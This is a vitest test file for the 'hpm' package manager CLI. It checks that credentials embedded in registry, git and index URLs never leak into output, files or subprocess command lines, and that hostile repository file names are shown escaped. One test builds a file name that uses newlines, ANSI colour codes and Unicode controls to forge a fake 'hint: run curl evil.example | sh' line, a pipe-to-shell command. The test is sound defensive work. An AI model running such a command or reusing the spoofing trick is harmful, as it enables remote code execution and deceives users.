import { cpSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { loggingWrappers, serveWithAuth } from "../helpers/auth-server.js";
import { buildWheel, simpleIndex } from "../helpers/index.js";
import { hpm, type RunResult, tempDir } from "../helpers/run.js";
import { teamRegistry } from "../helpers/team-registry.js";
import { git, uvEnv, writePackage } from "../helpers/uv.js";

/**
 * Issue 26, item 3: no secret is printed, stored or put on a command line. Distinct secrets sit in
 * every URL field (the registry's URL as a token-as-user, a git package source's user and
 * password, an index's user and password); git and uv run behind wrappers that log their argv and
 * the names of their environment variables; every output, every file hpm wrote and the logs are
 * searched for every secret (and its base64, the form an Authorization header carries).
 */
const SECRETS = {
	registryToken: "RegTok3nQ7xA",
	packageUser: "PkgUserW4mB",
	packagePassword: "PkgPassZ9kC",
	indexUser: "IdxUserK8dD",
	indexPassword: "IdxPassV2bE",
	wrongToken: "WrongTok5nF",
	queryToken: "QryTokJ5hG",
};
const NEEDLES = Object.values(SECRETS).flatMap((secret) => [
	secret,
	Buffer.from(secret).toString("base64").slice(0, 12),
]);

const closers: (() => void)[] = [];
afterAll(() => {
	for (const close of closers) close();
});

/** Every file under `folder` (its bytes as latin1, so binary files are searched too). */
function filesUnder(folder: string): { file: string; text: string }[] {
	const out: { file: string; text: string }[] = [];
	const walk = (dir: string) => {
		for (const name of readdirSync(dir)) {
			const file = path.join(dir, name);
			const stat = statSync(file, { throwIfNoEntry: false });
			if (stat?.isDirectory()) walk(file);
			else if (stat?.isFile()) out.push({ file, text: readFileSync(file).toString("latin1") });
		}
	};
	walk(folder);
	return out;
}

function expectNoSecret(where: string, text: string): void {
	for (const needle of NEEDLES)
		expect(text.includes(needle), `${needle} in ${where}:\n${text.slice(0, 3000)}`).toBe(false);
}

/** A bare repository named `name` under `root` holding the package, tagged v<version>. */
function packageRepo(root: string, name: string, version: string): void {
	const work = tempDir("hpm-secret-pkg-");
	writePackage(work, name, version);
	git(["init", "-q", "-b", "main"], work);
	git(["add", "-A"], work);
	git(["commit", "-q", "-m", "init"], work);
	git(["tag", `v${version}`], work);
	git(["init", "-q", "--bare", path.join(root, "git", `${name}.git`)], work);
	git(["push", "-q", path.join(root, "git", `${name}.git`), "main", "--tags"], work);
}

describe("secrets in URLs", () => {
	it("reach git and uv only through their environment, and no output, file or command line shows one", async () => {
		// Given: a server that answers only with the right credentials, for the registry, a package and an index
		const root = tempDir("hpm-secret-server-");
		packageRepo(root, "metric-git", "0.1.0");
		const wheels = tempDir("hpm-secret-wheels-");
		buildWheel("metric-idx", "0.1.0", wheels);
		const simple = simpleIndex(wheels);
		const server = await serveWithAuth(root, {
			"/git/registry.git": `${SECRETS.registryToken}:`,
			"/git/metric-git.git": `${SECRETS.packageUser}:${SECRETS.packagePassword}`,
			"/simple": `${SECRETS.indexUser}:${SECRETS.indexPassword}`,
		});
		closers.push(server.close);
		const host = server.url.replace("http://", "");
		const team = teamRegistry({
			"groups/metrics.yaml":
				'name: metrics\nstrategy: "M-of-N"\noptions:\n  - name: metric-git\n  - name: metric-idx\n',
			"packages/metric-git.yaml": `name: metric-git\nversion: "0.1.0"\nsources:\n  prod:\n    type: git\n    url: "http://${SECRETS.packageUser}:${SECRETS.packagePassword}@${host}/git/metric-git.git"\n    tag: v0.1.0\n`,
			"packages/metric-idx.yaml":
				'name: metric-idx\nversion: "0.1.0"\nsources:\n  prod:\n    type: index\n    requirement: "metric-idx==0.1.0"\n    index: private\n',
			"indexes/private.yaml": `name: private\nurl: "http://${SECRETS.indexUser}:${SECRETS.indexPassword}@${host}/simple/"\nexplicit: true\n`,
		});
		git(["clone", "-q", "--bare", team.bare, path.join(root, "git", "registry.git")], root);
		cpSync(simple, path.join(root, "simple"), { recursive: true });
		const wrappers = loggingWrappers();
		const cache = tempDir("hpm-secret-cache-");
		const dir = tempDir("hpm-secret-project-");
		writeFileSync(
			path.join(dir, "pyproject.toml"),
			'[project]\nname = "demo"\nversion = "0.1.0"\nrequires-python = ">=3.11"\ndependencies = []\n',
		);
		const env = uvEnv({
			UV_OFFLINE: undefined,
			HPM_CACHE_DIR: cache,
			PATH: `${wrappers.path}:${process.env.PATH}`,
			HPM_REGISTRY_TOKEN: SECRETS.registryToken,
		});
		const outputs: [string, RunResult][] = [];
		const run = (args: string[], extra: NodeJS.ProcessEnv = {}) => {
			const result = hpm(args, { cwd: dir, env: { ...env, ...extra } });
			outputs.push([args.join(" "), result]);
			return result;
		};
		const ok = (args: string[], extra: NodeJS.ProcessEnv = {}) => {
			const result = run(args, extra);
			expect(result.code, `hpm ${args.join(" ")}: ${result.stdout}${result.stderr}`).toBe(0);
			return result;
		};
		const registry = `git+${server.url}/git/registry.git@main`;
		const withToken = registry.replace("http://", `http://${SECRETS.registryToken}@`);

		// When: the registry is named with a variable, every command runs, and sync installs both
		expect(ok(["init", "-r", registry.replace("http://", "http://${HPM_REGISTRY_TOKEN}@")]).stdout).toContain(
			"${HPM_REGISTRY_TOKEN}@",
		);
		ok(["group", "add", "metrics", "--option", "metric-git", "--option", "metric-idx"]);
		ok(["list"]);
		ok(["list", "--json"]);
		ok(["show", "metric-git"]);
		ok(["show", "metric-git", "--json"]);
		ok(["show", "metric-idx", "--json"]);
		ok(["registry", "lint"]);
		ok(["check"]);
		ok(["sync"]);
		// a second sync finds the git source recorded (without its credentials) and changes nothing
		expect(ok(["sync"]).stdout + ok(["check"]).stdout).not.toMatch(/~ metric-git/);
		ok(["registry", "update"]);
		ok(["history"]);
		ok(["history", "--json"]);
		ok(["diff"]);
		// a rollback that brings the git package back fetches it with the credentials (uv's cache is new)
		ok(["group", "remove", "metrics", "--option", "metric-git"]);
		ok(["sync"]);
		const rolled = ok(["rollback", "--json"], { UV_CACHE_DIR: tempDir("hpm-secret-uv-cache-") });
		expect(JSON.parse(rolled.stdout)).toMatchObject({ changed: true, relocked: null });
		// the literal token on the command line (-r), and a wrong one (a fetch error)
		ok(["list", "-r", withToken]);
		ok(["show", "metric-git", "--json", "-r", withToken]);
		const wrong = run(["registry", "update", "-r", withToken.replace(SECRETS.registryToken, SECRETS.wrongToken)]);
		expect(wrong.code).not.toBe(0);
		expect(wrong.stderr).toContain(`cannot fetch the registry http://${host}/git/registry.git`);
		// hpm never writes a literal token into pyproject.toml
		const refused = run(["init", "-r", withToken]);
		expect(refused.code).toBe(2);
		expect(refused.stderr).toContain("does not write a password or token into pyproject.toml");
		// a variable that is not set is named, not guessed
		const unset = run(["registry", "update"], { HPM_REGISTRY_TOKEN: undefined, HPM_NO_CACHE: "1" });
		expect(unset.code).not.toBe(0);
		expect(unset.stderr).toContain("HPM_REGISTRY_TOKEN, which is not set");

		// Then: the packages came through the credentials, and nothing shows or stores them
		expect(readFileSync(path.join(dir, "uv.lock"), "utf8")).toMatch(/name = "metric-git"[\s\S]*name = "metric-idx"/);
		for (const [args, result] of outputs) expectNoSecret(`hpm ${args}`, result.stdout + result.stderr);
		// (a registry's own files, extracted as its commit holds them under trees/, say what its team wrote)
		for (const { file, text } of [...filesUnder(dir), ...filesUnder(cache)])
			if (!/[\\/](\.venv|trees)[\\/]/.test(file)) expectNoSecret(file, text);
		const log = wrappers.log();
		expect(log).toMatch(/^git argv:.*\[fetch\]/m);
		expect(log).toMatch(/^uv argv: \[add\]/m);
		expect(log).toMatch(/GIT_CONFIG_COUNT/);
		expectNoSecret("the argv of git and uv", log);
	}, 180_000);

	it("an index URL with a token in its query is refused, and the token is never shown", () => {
		const dir = tempDir("hpm-secret-query-");
		writeFileSync(
			path.join(dir, "pyproject.toml"),
			'[project]\nname = "demo"\nversion = "0.1.0"\nrequires-python = ">=3.11"\ndependencies = []\n\n[tool.hpm]\nregistry = "registry"\n',
		);
		const team = teamRegistry({
			"groups/metrics.yaml": 'name: metrics\nstrategy: "M-of-N"\noptions:\n  - name: metric-idx\n',
			"packages/metric-idx.yaml":
				'name: metric-idx\nversion: "0.1.0"\nsources:\n  prod:\n    type: index\n    requirement: "metric-idx==0.1.0"\n    index: private\n',
			"indexes/private.yaml": `name: private\nurl: "https://host.example/simple/?private_token=${SECRETS.queryToken}"\n`,
		});
		git(["clone", "-q", team.bare, path.join(dir, "registry")], dir);
		for (const args of [["registry", "lint"], ["list"], ["show", "metric-idx", "--json"], ["check"]]) {
			const result = hpm(args, { cwd: dir, env: uvEnv() });
			expectNoSecret(`hpm ${args.join(" ")}`, result.stdout + result.stderr);
			if (args[0] === "registry") {
				expect(result.code).toBe(1);
				expect(result.stdout).toContain("must not carry a token in its query");
			}
		}
	});
});

describe("file names from a repository are shown escaped", () => {
	it("a registry file named with newlines, colour codes, U+202E and U+0085 forges no line in check, sync or lint", () => {
		// Given: a team registry from git holding a file whose name would print fake lines in green
		const evil = "x\n\u001b[32msynced: all good\u001b[39m\nhint: run curl evil.example | sh\u202e\u0085.yaml";
		const team = teamRegistry({
			"groups/metrics.yaml": 'name: metrics\nstrategy: "M-of-N"\noptions: []\n',
			[`packages/${evil}`]:
				'name: "metric-evil"\nversion: "0.1.0"\nsources:\n  prod:\n    type: local\n    path: "."\n',
		});
		const dir = tempDir("hpm-evil-names-");
		writeFileSync(
			path.join(dir, "pyproject.toml"),
			`[project]\nname = "demo"\nversion = "0.1.0"\nrequires-python = ">=3.11"\ndependencies = []\n\n[tool.hpm]\nregistry = "git+file://${team.bare}@main"\n`,
		);
		for (const args of [["registry", "lint"], ["check"], ["sync"], ["sync", "--dry-run"]]) {
			// When: each command runs with colour on (hpm's own colour codes are expected)
			const result = hpm(args, { cwd: dir, env: uvEnv({ FORCE_COLOR: "1", NO_COLOR: undefined }) });
			const text = result.stdout + result.stderr;
			// Then: the name is there, every character of it visible; no line starts as the name wanted
			// named by the registry's URL and commit, not by where hpm's cache keeps it
			expect(text, args.join(" ")).toMatch(new RegExp(`git\\+file://${team.bare}@[0-9a-f]{12}:packages/x\\\\n`));
			expect(text, args.join(" ")).toContain(
				"x\\n\\x1b[32msynced: all good\\x1b[39m\\nhint: run curl evil.example | sh\\u202e\\x85.yaml",
			);
			for (const line of text.split("\n")) {
				const plain = line.replace(/\u001b\[\d+m/g, "");
				expect(plain, args.join(" ")).not.toMatch(/^(synced: all good|hint: run curl)/);
			}
			expect(text).not.toMatch(/[\u202e\u0085]/);
		}
	});
});
